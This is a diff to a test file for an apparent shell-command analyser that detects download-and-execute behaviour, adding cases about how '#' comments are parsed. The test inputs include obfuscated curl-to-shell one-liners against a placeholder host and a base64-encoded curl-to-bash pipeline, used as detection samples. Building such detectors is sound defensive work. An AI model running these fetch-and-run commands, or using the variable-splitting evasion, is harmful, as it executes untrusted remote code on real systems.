@@ -101,6 +101,20 @@ def test_posix_download_into_a_shell_is_downloads_and_runs(text: str) -> None:
     assert Behaviour.RUNS_DOWNLOADED in interpret(text).behaviours, reading(text)
 
 
+@pytest.mark.parametrize("before", ["a#b; ", "{a#x; ", "{\u0100#x; ", "x=$HOME#y; ", "a#b\n"])
+def test_a_hash_inside_a_word_does_not_hide_the_rest_of_the_line(before: str) -> None:
+    # bash starts a comment only at the start of a word; the grammar's error recovery read
+    # "#b; a=cu;b=rl; ..." as one, and the command after it went unread (the verdict: clean)
+    text = before + "a=cu;b=rl; $a$b -s https://a.test/i.sh | sh"
+    assert Behaviour.RUNS_DOWNLOADED in interpret(text).behaviours, reading(text)
+
+
+def test_a_hash_after_a_blank_still_starts_a_comment() -> None:
+    result = interpret("a=cu;b=rl; $a$b -s https://a.test/i.sh # | sh")
+    assert Behaviour.DOWNLOADS in result.behaviours
+    assert Behaviour.RUNS_DOWNLOADED not in result.behaviours
+
+
 def test_decoded_pipeline_payload_becomes_a_layer() -> None:
     payload = "curl -s https://a.test/p | bash"
     text = f"echo {base64.b64encode(payload.encode()).decode()} | base64 --decode | bash"
